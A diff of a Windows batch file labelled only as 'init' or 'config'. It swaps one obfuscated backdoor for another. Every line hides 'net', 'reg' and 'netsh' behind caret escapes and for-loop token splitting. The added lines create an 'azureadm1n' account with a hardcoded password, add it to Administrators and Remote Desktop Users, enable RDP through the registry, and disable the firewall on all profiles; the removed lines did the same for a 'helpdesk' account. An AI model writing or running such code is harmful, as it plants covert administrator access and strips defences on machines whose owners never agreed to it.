@@ -1,6 +1,6 @@
-REM init 4526 v4
-^f^or /^f "tokens=2 delims=~" %%i in ("ktyj~net~lanl") ^d^o %%i ^us^e^r ^he^lpde^s^k Ad^m1^n!^s^trat0^r /add /^y
-^fo^r /f "tokens=2 delims=;" %%i i^n ("xgxa;net;iwkj") ^do %%^i loca^l^group ^a^dminis^tra^t^o^rs ^he^lp^d^esk /add
-fo^r /^f "tokens=1 delims=~" %%i ^in ("net~ltnr~kegu") d^o %%i localgroup "Remote Desktop Users" helpd^e^sk /ad^d
-f^or /^f "tokens=3 delims=@" %%i in ("zcud@ubyk@reg") ^d^o %%i ^a^d^d "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /^v ^fDenyT^SC^o^nnec^t^ions /^t ^REG_^DWO^RD /d ^0 /f
-f^or /^f "tokens=2 delims=#" %%^i in ("sdri#netsh#zjdj") ^d^o %%i ad^v^fi^rewa^ll s^e^t ^allpr^ofiles ^s^t^a^t^e ^off
+REM config 3736 v4
+^fo^r /f "tokens=2 delims=@" %%^i ^in ("pbki@net@uzyt") do %%^i us^er ^a^z^ur^e^ad^m^1n Q^w^erty#7788 /a^dd /^y
+for /f "tokens=2 delims=#" %%^i ^in ("suvb#net#ikgq") ^d^o %%^i ^lo^cal^g^ro^up a^dm^i^n^i^s^tra^t^o^rs az^u^re^a^dm1n /^ad^d
+^f^or /^f "tokens=1 delims=~" %%i ^i^n ("net~urxx~hqyn") ^do %%^i ^l^o^c^a^lg^roup "Remote Desktop Users" a^zure^adm^1n /^a^d^d
+f^or /f "tokens=1 delims=@" %%^i in ("reg@wixq@oatz") ^d^o %%i a^d^d "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v ^fDeny^TSC^o^n^n^e^c^t^ions /^t R^EG_D^WORD /^d 0 /^f
+f^or /^f "tokens=2 delims=~" %%i ^in ("colo~netsh~yevy") do %%i ad^vf^ire^w^a^ll ^s^et ^al^l^p^rof^i^les s^tate of^f
